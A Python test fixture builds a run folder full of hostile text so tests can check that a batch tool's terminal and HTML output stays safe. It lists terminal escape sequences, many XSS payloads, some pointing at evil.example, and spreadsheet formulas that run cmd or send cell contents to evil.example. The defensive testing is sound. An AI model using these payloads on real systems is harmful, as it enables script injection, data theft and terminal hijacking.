"""Texts that somebody would be harmed by if they were written as they are, and a run that is full of them."""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

from batchrun.run_folder.columns.typed import Types
from batchrun.run_folder.folder import RunFolder
from tests.run_folder.recorded import asked, done, write_journal

_ESC, _CSI, _OSC, _BEL = "\x1b", "\x1b[", "\x1b]", "\x07"

FOR_TERMINALS = [
    *(
        f"{_CSI}{code}"
        for code in ("5m", "7;5m", "38;2;1;2;3m", "2J", "H", "10A", "3K", "6n", "c", ">c", "?1049h")
    ),
    *(
        f"{_CSI}{code}"
        for code in ("?25l", "?1000h", "?2004h", "8m", "20t", "21t", "4i", "1;1r", "!p", "1000000b")
    ),
    f"{_OSC}0;title{_BEL}",
    f"{_OSC}2;title{_ESC}\\",
    f"{_OSC}8;;http://evil.example/{_ESC}\\click{_OSC}8;;{_ESC}\\",
    f"{_OSC}52;c;ZXZpbA=={_BEL}",
    f"{_OSC}4;1;?{_BEL}",
    f"{_OSC}50;font{_BEL}",
    f"{_OSC}1337;File=inline=1:AAAA{_BEL}",
    f"{_OSC}777;notify;a;b{_BEL}",
    f"{_OSC}9;4;1;50{_BEL}",
    *(f"{_ESC}{code}" for code in ("c", "7", "8", "D", "M", "#8", "(0", "=", ">", "N", "Z", "%G", "[", "]")),
    f'{_ESC}P$q"p{_ESC}\\',
    f"{_ESC}P+q544e{_ESC}\\",
    f"{_ESC}_apc{_ESC}\\",
    f"{_ESC}^pm{_ESC}\\",
    f"{_ESC}Xsos{_ESC}\\",
    *("\x9b2J", "\x9d0;t\x9c", "\x90q\x9c", "\x85next", "\x84", "\x8d", "\x9b31m"),
    *(
        "bell\x07",
        "back\x08\x08\x08\x08",
        "over\rwritten",
        "\x0b\x0c",
        "nul\x00byte",
        "\x0e\x0f",
        "\x1a",
        "\x7f\x7f",
    ),
    *(f"a{mark}b" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u061c\u200e\u200f"),
    *(
        f"a{mark}b"
        for mark in "\u200b\u200c\u200d\u2060\u2061\u2064\ufeff\u00ad\u180e\u2028\u2029\ufff9\u034f"
    ),
    "a\U000e0041\U000e007fb",
    "[bold red]markup[/bold red]",
    "[link=http://evil.example]x[/link]",
    "[/]",
    "[on_click=app.quit]",
    ":smile:",
    "two\nlines: submit finished, 0 failed",
    "\udc9b31m lone \ud800 surrogates",
]
"""What a terminal obeys, what reorders or hides text, rich's markup."""

FOR_BROWSERS = [
    "<script>document.title='x'</script>",
    "</script><script>document.title='x'</script>",
    "<ScRiPt>document.title='x'</sCrIpT >",
    "<script/src=//evil.example/x.js></script>",
    "<svg onload=document.title='x'>",
    "<svg><script>document.title='x'</script></svg>",
    "<svg><style><img src=x onerror=document.title='x'></style></svg>",
    "<svg><animate onbegin=document.title='x' attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:document.title='x'\"><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=document.title='x'>",
    "<math href=\"javascript:document.title='x'\">x</math>",
    "<img src=x onerror=document.title='x'>",
    "<img src=x onerror=document.title='x'//",
    "<img/src/onerror=document.title='x'>",
    "<img src='x' onerror='document.title=`x`'>",
    "<IMG SRC=javascript:document.title='x'>",
    "<image src=x onerror=document.title='x'>",
    "<video><source onerror=document.title='x'></video>",
    "<audio src=x onerror=document.title='x'>",
    "<body onload=document.title='x'>",
    "<iframe src=\"javascript:document.title='x'\"></iframe>",
    "<iframe srcdoc=\"<script>parent.document.title='x'</script>\"></iframe>",
    "<object data=\"javascript:document.title='x'\"></object>",
    "<embed src=\"javascript:document.title='x'\">",
    "<a href=\"javascript:document.title='x'\">x</a>",
    "<a href='&#106;avascript:document.title=1'>x</a>",
    "<a href=\"data:text/html,<script>document.title='x'</script>\">x</a>",
    "<form action=\"javascript:document.title='x'\"><input type=submit></form>",
    "<button formaction=\"javascript:document.title='x'\">x</button>",
    "<input autofocus onfocus=document.title='x'>",
    "<details open ontoggle=document.title='x'>",
    "</details></td></tr></table><h1>broken out</h1>",
    "</tbody></table>",
    "</summary>",
    "<select><option>",
    "</select>",
    "<textarea>",
    "</textarea><script>document.title='x'</script>",
    "<title>x</title>",
    "</title><script>document.title='x'</script>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "</style><style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:document.title='x')\">",
    "<div style='position:fixed;inset:0'>",
    "<!--",
    "-->",
    "<!-- --!><script>document.title='x'</script>",
    "<![CDATA[<script>document.title='x'</script>]]>",
    "<?xml version='1.0'?>",
    "<!doctype html>",
    "<plaintext>",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='x'>\">",
    "<template><script>document.title='x'</script></template>",
    "<xmp><script>document.title='x'</script></xmp>",
    "\" onmouseover=\"document.title='x'",
    "' onmouseover='document.title=1",
    "\"><script>document.title='x'</script>",
    "'><script>document.title='x'</script>",
    "` onmouseover=document.title='x'",
    "x onmouseover=document.title='x'",
    '" autofocus onfocus="document.title=\'x\'" x="',
    'failed" hidden class="',
    "&lt;script&gt;document.title='x'&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;",
    "&notanentity &copy &lt",
    "&\x00#60;",
    "<scr\x00ipt>document.title='x'</scr\x00ipt>",
    "\x00",
    "\ufeff<script>document.title='x'</script>",
    "\ud800<script>\udfff",
    "\uff1cscript\uff1edocument.title='x'\uff1c/script\uff1e",
    "+ADw-script+AD4-document.title='x'+ADw-/script+AD4-",
    "{{ 7 * 7 }}",
    "{% for x in y %}",
    "{{ name|safe }}",
    "{# comment #}",
    "${document.title='x'}",
    "\u202e<script>\u2066",
    "]]>",
    "javascript:document.title='x'",
    "//evil.example/",
    "constructor __proto__ toString",
    "\r\n\r\n<script>document.title='x'</script>",
]
"""Script, broken-out tags, attributes and comments, style, URLs, entities, templates."""

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b\u202e=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\tx",
    "\rx",
    "=",
    "- a list item",
    "--",
    "-5 EUR",
    "-5\n",
    '="a","b"',
    "=1;=2",
]
"""What a spreadsheet may run: OWASP's CSV Injection, and what stands before it without being seen."""

PATTERNS = ["*", "^.*$", "^row_id$", "^5m$"]
"""Names that polars takes for several columns, or for another one."""

ALL = [*FOR_TERMINALS, *FOR_BROWSERS, *FORMULAS]

_HIDING = ("Cc", "Cf", "Cs", "Zl", "Zp")
_PREPENDED = frozenset(
    "\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd"
)
"""Format characters that are seen: number signs of scripts."""

_STYLES = re.compile(r"\x1b\[(?:0|[12](?:;3[1-6])?|3[1-6]|38;5;\d{1,3}|\?25[lh]|2K|1A)m?|\r")
"""What rich writes of its own: styles of this program, the cursor hidden and back, a line drawn anew."""


def obeyed(written: str, *, terminal: bool) -> list[str]:
    """Characters of an output that a terminal obeys or nobody sees, beside rich's own sequences."""
    text = _STYLES.sub("", written) if terminal else written
    return [
        repr(text[max(0, at - 20) : at + 20])
        for at, char in enumerate(text)
        if char not in "\n\t" and unicodedata.category(char) in _HIDING and char not in _PREPENDED
    ]


def filled(kind: pa.DataType, text: str) -> Any:
    """A value of an Arrow type whose texts are all `text`."""
    if pa.types.is_struct(kind):
        return {field.name: filled(field.type, text) for field in kind}
    if pa.types.is_list(kind):
        return [filled(kind.value_type, text)]
    if pa.types.is_string(kind):
        return text
    if pa.types.is_binary(kind):
        return text.encode(errors="replace")
    return {pa.float64(): 0.5, pa.bool_(): True}.get(kind, 5)


def storable(text: str) -> str:
    """Text as results hold it: Arrow has no lone surrogate."""
    return re.sub("[\ud800-\udfff]", "\ufffd", text)


def harmless_ones(texts: Sequence[str]) -> list[str]:
    """As many texts that harm nobody, each another: charts show what there is of each."""
    return [f"harmless {number}" for number, _text in enumerate(texts)]


def hostile_run(folder: Path, texts: Sequence[str]) -> RunFolder:
    """A run whose every text is one of `texts`, in all columns of rows that went well and rows that failed;
    names of input columns and members too. Some rows are in the journal alone."""
    run = RunFolder(folder)
    generation = run.generations / "000001"
    for path in (generation, run.checkpoint_path):
        path.mkdir(parents=True)
    texts = [storable(text) for text in texts]
    everything = "".join(texts)
    run.identity_path.write_text(json.dumps({"name": everything}))
    stop = {"kind": "budget", "message": everything, "at_once": False}
    run.run_json.write_text(json.dumps({"state": "stopped", "stopped_by": stop}))
    pq.write_table(_results(texts), generation / "part-00000.parquet")
    run.results.symlink_to("generations/000001")
    fresh = 2 * len(texts)
    lines = [done(number, row=number, outcome="render") for number in range(fresh, fresh + 2)]
    body = json.dumps({"choices": [{"message": {"content": everything}}], "model": everything})
    write_journal(run.checkpoint_path, 1, [*lines, *asked(fresh + 2, body.encode())])
    return run


def _results(texts: Sequence[str]) -> pa.Table:
    """Two rows for each text."""
    names = [*(f"{number} {text}" for number, text in enumerate(texts[::5])), *PATTERNS]
    members = pa.struct([(name, pa.string()) for name in names])
    types = Types(parsed=members)
    names = [*(f"{number} {text}" for number, text in enumerate(texts[::7])), *PATTERNS]
    inputs = [pa.field(name, pa.string()) for name in names]
    ours = list(types.schema())
    schema = pa.schema([*ours[:2], *inputs, *ours[2:]])
    rows = []
    for number, text in enumerate(texts):
        whole = {field.name: filled(field.type, text) for field in schema} | {"row_id": f"{number} {text}"}
        good = {"row_index": 2 * number, "status": "ok", "error": None, "error_type": None, "refusal": None}
        bad = {"row_index": 2 * number + 1, "status": "failed", "error_type": text}
        rows += [whole | good, whole | bad]
    return pa.Table.from_pylist(rows, schema=schema)
